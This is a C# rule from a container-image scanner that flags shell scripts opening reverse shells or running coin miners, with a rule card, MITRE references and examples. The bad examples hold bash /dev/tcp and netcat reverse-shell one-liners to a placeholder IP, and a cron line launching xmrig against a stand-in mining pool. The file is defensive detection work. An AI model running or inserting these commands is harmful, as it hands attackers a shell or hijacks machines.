using System.Collections.Immutable;
using Gabion.Model;
using Gabion.Model.Container.Images;

namespace Gabion.Rules.Container.Distribute;

/// <summary>A shell script in the image opens a shell to the network, or mines coins.</summary>
internal sealed class ScriptIsHostile : Rule<SuspectScript>
{
    public override RuleCard Card { get; } = new()
    {
        Id = RuleId.Parse("GBN-CON-252"),
        Title = "A shell script opens a shell to the network, or mines coins",
        Severity = Severity.Critical,
        Stage = Stage.Distribute,
        Why = "When it runs, somebody at the other end has a shell in the container or on the node, or lives on its processors.",
        Fix = "Remove it, and find out which step brought it; treat the machines that ran it as taken.",
        References = ["https://attack.mitre.org/techniques/T1059/004/", "https://attack.mitre.org/techniques/T1496/"],
        Controls = [new("MITRE-ATTACK", "T1059.004", ControlCoverage.Partial), new("MITRE-ATTACK", "T1496", ControlCoverage.Partial)],
    };

    public override ImmutableArray<Example> Examples =>
    [
        Example.Bad("usr/local/bin/beacon.sh", """
            #!/bin/sh
            bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 <--
            sh -c 'nc -e /bin/sh 203.0.113.7 4444' <--
            """),
        Example.Bad("etc/cron.d/update", """
            # keeps running
            */5 * * * * root /tmp/.x/xmrig -o stratum+tcp://pool.example.com:3333 <--
            """),
        Example.Good("usr/local/bin/wait.sh", """
            #!/bin/bash
            exec 3<>/dev/tcp/127.0.0.1/8080 && echo ready >&3
            nc -z localhost 5432
            """),
    ];

    public override IEnumerable<Problem> Check(SuspectScript fact) =>
        from command in NestedCommands.Of(fact.Script)
        let isShell = RemoteControl.IsReverseShell(command.Command.Words, command.Command)
        where isShell || RemoteControl.IsMiner(command.Command.Words)
        let what = isShell ? "opens a shell to the network" : "runs a coin miner"
        group new Problem(command.At, what, $"/{fact.File.Path} {what}") by (command.At.Line, what) into found
        select found.First();
}
